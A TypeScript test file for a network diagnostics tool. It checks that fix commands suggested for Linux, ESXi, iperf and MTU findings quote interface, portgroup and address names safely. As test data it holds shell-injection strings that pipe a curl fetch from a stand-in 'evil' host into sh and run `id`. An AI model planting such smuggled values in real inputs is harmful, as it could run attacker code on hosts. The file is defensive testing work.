// What a reader sees and pastes when a host reports hostile names: each detector's finding is
// built twice, once with a plain name and once with one that is shell code holding backticks.
// Read as the UI reads it (lib/domain/fix-spans.ts), the hostile text must have the same shape (the
// same code spans, line by line), its prose must carry the name as written, and every command
// must hand the name to /bin/sh as one literal word that runs nothing.
import { execFileSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import type { DetectedFinding } from "@/lib/domain/finding";
import { detectDuplicateMac } from "@/lib/analysis/duplicate-mac";
import { detectEsxiVmknicMac } from "@/lib/analysis/esxi-dup-mac";
import { detectEsxiInHostMtu } from "@/lib/analysis/esxi-mtu";
import { detectIpConflict } from "@/lib/analysis/ip-conflict";
import { chain, esxiHost, vmknic, vmnic, vswitch } from "@/lib/analysis/esxi-test-builders";
import { DEFAULT_THRESHOLDS, detectIperfVerdicts, type IperfVerdictInput } from "@/lib/analysis/iperf-verdicts";
import { detectLinkDown } from "@/lib/analysis/link-down";
import { detectLinkDuplex } from "@/lib/analysis/link-duplex";
import { detectLinkErrors } from "@/lib/analysis/link-errors";
import { detectLinkSpeed } from "@/lib/analysis/link-speed";
import { detectMtuDfFailures, type DfProbeRecord } from "@/lib/analysis/mtu-df";
import { detectMtuMismatch } from "@/lib/analysis/mtu-mismatch";
import { detectNeighborUnreachable } from "@/lib/analysis/neighbor-unreachable";
import { shellWord } from "@/lib/analysis/shell-word";
import { dfProbe, host, input, mac, neigh, nic } from "@/lib/analysis/test-builders";
import { fixSpans } from "@/lib/domain/fix-spans";

const PLAIN = "eth9";
// Linux refuses only slashes, whitespace and names of 16 bytes or more: a shorter name with
// these characters is accepted, and ESXi portgroups or route output are held to less.
const HOSTILE = "x;curl${IFS}evil|sh`id`";
// Without backticks the text keeps its shape whatever the quoting: only the shell tells.
const NO_BACKTICK = "x;curl${IFS}evil|sh;$(id)";

const lines = (f: DetectedFinding) => f.fix.split("\n").map(fixSpans);

/** The words /bin/sh makes of a command, with netdiag's own <placeholders> filled in first. */
function shellWords(command: string): string[] {
  const args = command.replace(/<[A-Za-z][\w /?]*>/g, "PLACEHOLDER");
  const out = execFileSync("/bin/sh", ["-c", `printf '[%s]\\n' ${args}`], { encoding: "utf8" });
  return out.split("\n").filter(Boolean).map((l) => l.slice(1, -1));
}

function expectSafe(build: (name: string) => DetectedFinding[], { inCommands = true } = {}) {
  for (const name of [HOSTILE, NO_BACKTICK]) expectSafeWith(build, name, inCommands);
}

function expectSafeWith(build: (name: string) => DetectedFinding[], name: string, inCommands: boolean) {
  const plain = build(PLAIN);
  const hostile = build(name);
  expect(hostile.length).toBeGreaterThan(0);
  expect(hostile.length).toBe(plain.length);
  let commandsWithName = 0;
  hostile.forEach((f, i) => {
    const p = plain[i] as DetectedFinding;
    const [hl, pl] = [lines(f), lines(p)];
    expect(hl.map((spans) => spans.map((s) => s.code))).toEqual(pl.map((spans) => spans.map((s) => s.code)));
    hl.forEach((spans, l) =>
      spans.forEach((s, j) => {
        const twin = pl[l]?.[j]?.text;
        if (!s.code) {
          expect(s.text.replaceAll(name, PLAIN)).toBe(twin);
          return;
        }
        expect(s.text.replaceAll(shellWord(name), PLAIN)).toBe(twin);
        if (!s.text.includes("evil")) return;
        commandsWithName++;
        const words = shellWords(s.text.replace(/^\S+/, ""));
        // The name arrives whole, in one word, and nothing of it ran (`id` would print uid=).
        expect(words.filter((w) => w.includes("evil")).every((w) => w.includes(name))).toBe(true);
        expect(words.some((w) => w.includes(name))).toBe(true);
        expect(words.join(" ")).not.toContain("uid=");
      }),
    );
  });
  expect(commandsWithName > 0).toBe(inCommands);
}

const lan = (name: string, o = {}) => nic(name, mac(1), ["10.9.1.11/24"], o);

describe("Linux interface names", () => {
  test("link-down", () =>
    expectSafe((name) => detectLinkDown(input([host(1, [lan(name, { state: "down" })], { lastUpAt: { [name]: "2026-03-01T11:50:00.000Z" } })]))));

  test("link-duplex", () => expectSafe((name) => detectLinkDuplex(input([host(1, [lan(name, { duplex: "half" })])]))));

  test("link-speed", () =>
    expectSafe((name) =>
      detectLinkSpeed(
        input([
          host(1, [lan(name, { speedMbps: 100 })]),
          host(2, [nic("eth0", mac(2), ["10.9.1.12/24"])]),
          host(3, [nic("eth0", mac(3), ["10.9.1.13/24"])]),
        ]),
      ),
    ));

  test("link-errors", () =>
    expectSafe((name) => detectLinkErrors(input([host(1, [lan(name, { rxErrors: 510 })], { previous: { interfaces: [lan(name, { rxErrors: 10 })] } })]))));

  test("mtu-mismatch, Linux and ESXi", () =>
    expectSafe((name) =>
      detectMtuMismatch(
        input([
          host(1, [lan(name, { mtu: 9000 })]),
          host(2, [nic("eth0", mac(2), ["10.9.1.12/24"])]),
          host(3, [nic("eth0", mac(3), ["10.9.1.13/24"])]),
          host(4, [nic(name, mac(4), ["10.9.1.14/24"], { mtu: 9000, kind: "vmknic" })], { platform: "esxi" }),
        ]),
      ),
    ));

  test("duplicate-mac: a host answering for an address it does not hold (proxy ARP)", () =>
    expectSafe((name) => {
      const found = detectDuplicateMac(
        input([
          host(1, [nic("eth0", mac(1), ["10.9.1.11/24"])], { neighbors: [neigh("10.9.1.12", mac(2)), neigh("10.9.1.99", mac(2))] }),
          host(2, [nic(name, mac(2), ["10.9.1.12/24"])]),
        ]),
      );
      expect(found.map((f) => f.fix).join("\n")).toContain("proxy_arp");
      return found;
    }));

  test("duplicate-mac: a VLAN interface's sysctl key has its dot written as a slash, as sysctl needs", () => {
    const [found] = detectDuplicateMac(
      input([
        host(1, [nic("eth0", mac(1), ["10.9.1.11/24"])], { neighbors: [neigh("10.9.1.12", mac(2)), neigh("10.9.1.99", mac(2))] }),
        host(2, [nic("eth0.10", mac(2), ["10.9.1.12/24"])]),
      ]),
    );
    expect(found?.fix).toContain("`sysctl net.ipv4.conf.eth0/10.proxy_arp`");
  });

  test("neighbor-unreachable: the asking interface in prose", () =>
    expectSafe((name) => {
      const asker = host(1, [nic(name, mac(1), ["10.9.1.11/24"])], {
        neighbors: [neigh("10.9.1.12", null, name, "failed")],
        previous: { neighbors: [neigh("10.9.1.12", null, name, "failed")] },
      });
      return detectNeighborUnreachable(input([asker, host(2, [nic("eth0", mac(2), ["10.9.1.12/24"])])]));
    }, { inCommands: false }));

  test("ip-conflict: the interfaces holding the address, in prose", () =>
    expectSafe((name) => detectIpConflict(input([host(1, [lan(name)]), host(2, [nic("eth0", mac(2), ["10.9.1.11/24"])])])), { inCommands: false }));

  // parseIp drops a zone id, so "10.9.1.12%<anything>" is an address the detector accepts.
  test("neighbor-unreachable: an address with a hostile zone id goes into arping quoted", () => {
    const ip = `10.9.1.12%${HOSTILE}`;
    const asker = host(1, [nic("eth0", mac(1), ["10.9.1.11/24"])], {
      neighbors: [neigh(ip, null, "eth0", "failed")],
      previous: { neighbors: [neigh(ip, null, "eth0", "failed")] },
    });
    const [f] = detectNeighborUnreachable(input([asker, host(2, [nic("eth0", mac(2), ["10.9.1.12/24"])])]));
    const arping = f ? lines(f).flat().find((s) => s.code && s.text.startsWith("arping")) : undefined;
    expect(arping && shellWords(arping.text.replace(/^\S+/, ""))).toEqual(["-I", "PLACEHOLDER", ip]);
  });
});

describe("ESXi vmknic, vSwitch and portgroup names", () => {
  const topology = (name: string) =>
    chain({
      vmnics: [vmnic("vmnic1", "7c:d3:0a:00:00:11", 9000)],
      vswitches: [vswitch(name, 1500, ["vmnic1"])],
      portgroups: [{ name, vswitch: name, vlanId: 20 }],
      vmknics: [
        vmknic(name, "88:e9:a4:6b:b8:54", 9000, name, name, ["172.26.64.10/26"]),
        vmknic("vmk2", "88:e9:a4:6b:b8:54", 1500, name, name, ["172.26.65.10/26"]),
      ],
    });

  test("esxi-mtu: vmknic and uplink findings", () => expectSafe((name) => detectEsxiInHostMtu(input([esxiHost(1, topology(name))]))));

  test("esxi-dup-mac: recreating a vmknic", () =>
    expectSafe((name) => {
      // The plain twin sorts the same way, so the vmknic named `name` is the one to recreate.
      const t = topology(name);
      return detectEsxiVmknicMac(input([esxiHost(1, { ...t, vmknics: [...t.vmknics].reverse() })]));
    }));
});

describe("names from iperf runs and DF probes", () => {
  const end = (id: number, dev: string) => ({
    id,
    name: `h${id}`,
    address: `10.9.1.1${id}`,
    route: `10.9.1.1${3 - id} dev ${dev} src 10.9.1.1${id} uid 0 \n    cache \n`,
    interface: dev,
    linkMbps: 10000,
  });
  const run = (dev: string, o: Partial<IperfVerdictInput> = {}): IperfVerdictInput => ({
    runId: 7,
    at: "2026-11-22T10:00:00.000Z",
    client: end(1, dev),
    server: end(2, dev),
    protocol: "tcp",
    parallel: 1,
    bitrateMbps: null,
    mssBytes: 1448,
    forward: { bitsPerSecond: 9.2e9, sentBitsPerSecond: 9.2e9, sentBytes: 1.15e10, retransmits: 0, cpuClientPercent: 20, cpuServerPercent: 30 },
    reverse: { bitsPerSecond: 2.87e8, sentBitsPerSecond: 2.87e8, sentBytes: 3.6e8, retransmits: 20000, cpuClientPercent: 20, cpuServerPercent: 30 },
    thresholds: DEFAULT_THRESHOLDS,
    ...o,
  });

  test("iperf: route dev in tc/ethtool/ip commands", () => expectSafe((dev) => detectIperfVerdicts(run(dev))));

  test("iperf: a CPU-bound sender's interface", () =>
    expectSafe((dev) =>
      detectIperfVerdicts(
        run(dev, {
          forward: { bitsPerSecond: 2e9, sentBitsPerSecond: 2e9, sentBytes: 2.5e9, retransmits: 0, cpuClientPercent: 99, cpuServerPercent: 30 },
          reverse: null,
        }),
      ),
    ));

  const probe = (fromInterface: string, toAddress: string, ok: boolean, payloadBytes: number, peerMtu: number): DfProbeRecord =>
    dfProbe({ fromInterface, toAddress, ok, payloadBytes, peerMtu });

  test.each([
    { verdict: "broken", below: false, peerMtu: 1500 },
    { verdict: "path", below: true, peerMtu: 9000 },
  ])("mtu-df $verdict: interface and address", ({ below, peerMtu }) =>
    expectSafe((name) => detectMtuDfFailures({ probes: [probe(name, name, false, 8972, peerMtu), probe(name, name, below, 1472, peerMtu)] })),
  );
});
